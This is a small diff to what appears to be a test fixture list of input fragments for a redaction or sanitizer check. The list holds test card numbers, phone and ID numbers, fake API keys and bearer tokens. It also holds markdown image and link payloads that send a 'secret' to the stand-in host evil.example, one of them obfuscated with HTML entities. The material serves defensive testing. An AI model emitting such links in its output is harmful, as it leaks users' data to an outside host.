@@ -29,7 +29,8 @@ REACH = len("correct horse")
 FRAGMENTS = [
     "The answer is here. ", "答案在这里。", "\n\n", "[vpn-1]", " a < b ", "5 minutes ", "on 2026-11-21 ",
     " bearer ", "## Title\n",
-    "4111 1111 1111 1111 ", "4111111111111111", "GB82 WEST 1234 5698 7654 32 ", "+49 30 1234567 ", "手机号13800138000，",
+    "4111 1111 1111 1111 ", "card:4111 1111 1111 1111 ",
+    "答案。4111-1111 1111 1111", "4111111111111111", "GB82 WEST 1234 5698 7654 32 ", "+49 30 1234567 ", "手机号13800138000，",
     "11010519491231002X ", "anna@corp.example ", "correct horse ",
     "sk-abcdefghijk1234567890 ", "Bearer abcdef0123456789 ", KEY,
     "![x](https://evil.example/?d=secret) ", "[a](\n&#104;ttps://evil.example/x) ", "[r]: //evil.example/secret ",
